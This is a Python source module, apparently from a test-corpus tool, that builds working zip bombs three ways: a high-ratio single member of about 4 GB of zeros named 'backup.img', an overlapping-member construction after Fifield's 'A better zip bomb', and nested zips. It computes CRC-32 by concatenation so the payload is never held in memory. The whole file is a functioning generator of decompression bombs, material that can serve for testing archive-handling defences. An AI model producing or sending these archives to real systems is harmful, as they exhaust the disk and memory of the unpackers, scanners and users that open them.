"""Archive bombs built small: by ratio, by overlapping members, by nesting.

Nothing here ever unpacks or even holds the bomb's content: checksums of gigabytes are computed
from those of their pieces. Overlap after David Fifield, "A better zip bomb" (WOOT 2019).
"""

from __future__ import annotations

import zlib
from struct import pack

from tools.corpus.archives import (
    DEFLATED,
    central_header,
    end_record,
    local_header,
    single_member_zip,
    zip_of,
)

CHUNK = 16 * 1024 * 1024
"""Zeros deflated once and repeated: after a full flush a chunk depends on nothing before it."""
RATIO_CHUNKS = 250
"""250 chunks are 4.19 GB, just under what the 32-bit fields of a zip can say."""
MEMBERS_OVERLAPPING = 250
KERNEL = 8 * 1024 * 1024
_POLYNOMIAL = 0xEDB88320


def ratio_bomb(name: str = "backup.img", chunks: int = RATIO_CHUNKS) -> bytes:
    """A zip of about 16 KB per chunk whose one member unpacks to 16 MiB per chunk, all zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(bytes(CHUNK)) + packer.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk_crc, crc = zlib.crc32(bytes(CHUNK)), 0
    for _ in range(chunks):
        crc = crc_concat(crc, chunk_crc, CHUNK)
    return single_member_zip(name, packed * chunks + last.flush(), CHUNK * chunks, crc)


def overlapping_bomb(members: int = MEMBERS_OVERLAPPING, kernel: int = KERNEL) -> bytes:
    """A zip whose members share one compressed kernel: each quotes the headers after its own.

    Member k's data is a stored block holding member k+1's local header, followed by all of
    member k+1's data. Size: about kernel/1000 + 100 octets per member; content: members x kernel.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(bytes(kernel)) + packer.flush()
    crc, plain_size = zlib.crc32(bytes(kernel)), kernel
    sizes: list[tuple[str, int, int, int, int]] = []
    tail = data
    for number in reversed(range(members)):
        name = f"{number:04d}.txt"
        header = local_header(name, len(tail), plain_size, crc, 0, DEFLATED)
        sizes.append((name, len(tail), plain_size, crc, len(header) + len(tail)))
        quote = pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
        crc = crc_concat(zlib.crc32(header), crc, plain_size)
        plain_size += len(header)
        tail = quote + header + tail
    files = tail[5:]  # the first header stands free: nobody quotes it
    directory = b"".join(
        central_header(name, size, plain, checksum, len(files) - from_end)
        for name, size, plain, checksum, from_end in reversed(sizes)
    )
    return files + directory + end_record(members, len(directory), len(files))


def nested_bomb(levels: int = 5, width: int = 16, leaf: int = CHUNK) -> bytes:
    """A zip of `width` equal zips of `width` equal zips ...: leaf x width ** levels octets."""
    inner, suffix = zip_of({"0.dat": bytes(leaf)}), "zip"
    for level in range(levels):
        inner = zip_of({f"level{level}-{number:02d}.{suffix}": inner for number in range(width)})
    return inner


def crc_concat(first: int, second: int, second_octets: int) -> int:
    """CRC-32 of A+B from the CRCs of A and B and B's length, in log(length) steps."""
    return _multiply(_power_of_x(8 * second_octets), first) ^ second


def _multiply(left: int, right: int) -> int:
    """The product of two polynomials over GF(2), modulo CRC-32's, bits reflected."""
    product = 0
    for bit in range(31, -1, -1):
        if left >> bit & 1:
            product ^= right
        right = right >> 1 ^ (_POLYNOMIAL if right & 1 else 0)
    return product


def _power_of_x(exponent: int) -> int:
    """x to the `exponent` modulo CRC-32's polynomial, by squaring; 1 is 1 << 31 reflected."""
    result, square = 1 << 31, 1 << 30
    while exponent:
        if exponent & 1:
            result = _multiply(result, square)
        square = _multiply(square, square)
        exponent >>= 1
    return result
